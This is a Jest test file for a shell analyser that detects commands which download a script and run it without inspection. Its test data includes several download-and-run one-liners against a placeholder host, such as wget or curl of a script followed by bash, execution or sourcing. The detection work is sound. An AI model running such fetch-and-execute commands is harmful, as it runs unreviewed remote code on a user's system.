import { expect, test } from '@jest/globals';
import { readShell } from '../../shell/read.js';
import { factsInOrder } from '../facts.js';

const runsUnseen = (source: string): boolean => {
  const reading = readShell(source);
  return (
    reading.ok &&
    factsInOrder(reading.invocations)
      .flat()
      .some(({ effect }) => effect === 'code.unseen')
  );
};

test.each([
  'wget https://x.example/a.sh && bash a.sh',
  'curl -o /tmp/a.sh https://x.example/s; chmod +x /tmp/a.sh; /tmp/a.sh',
  'curl -fsSLO https://x.example/a.py?v=1; python3 ./a.py',
  'curl https://x.example > a.sh; . ./a.sh',
])('what was downloaded and is run unseen is found in %j', (source) => {
  expect(runsUnseen(source)).toBe(true);
});

test.each([
  'wget https://x.example/a.sh',
  'wget https://x.example/a.sh && bash b.sh',
  'bash a.sh && wget https://x.example/a.sh',
  'curl -o a.sh https://x.example/s && sha256sum -c a.sum && bash a.sh',
])('%j runs nothing that was downloaded unseen', (source) => {
  expect(runsUnseen(source)).toBe(false);
});
